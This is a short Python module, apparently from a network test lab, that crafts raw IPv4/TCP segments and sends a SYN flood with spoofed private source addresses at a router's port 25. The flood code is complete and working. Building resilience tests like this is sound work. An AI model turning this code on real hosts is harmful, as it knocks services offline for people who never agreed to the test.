# SPDX-License-Identifier: BSD-3-Clause
"""Segments that no TCP would send: for floods."""
import random
import socket
import struct

from . import network


def _checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def segment(source, destination, source_port, flags, sequence=0, options=b""):
    """An IPv4 packet with a TCP segment for port 25."""
    src, dst = socket.inet_aton(source), socket.inet_aton(destination)
    offset = (5 + len(options) // 4) << 4
    tcp = struct.pack("!HHIIBBHHH", source_port, 25, sequence, 0, offset, flags, 65535, 0, 0) + options
    check = _checksum(src + dst + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", check) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0, src, dst)
    return ip + tcp


SYN, RST, ACK = 0x02, 0x04, 0x10
MSS = b"\x02\x04\x05\xb4"


def syn_flood(count, seed=1):
    """So many SYNs from the unused addresses of the network: nobody answers the router's SYN-ACKs."""
    rng = random.Random(seed)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    with raw:
        for _ in range(count):
            source = f"10.99.0.{rng.randrange(100, 250)}"
            raw.sendto(segment(source, network.ROUTER, rng.randrange(1024, 65536), SYN,
                               rng.getrandbits(32), MSS), (network.ROUTER, 0))
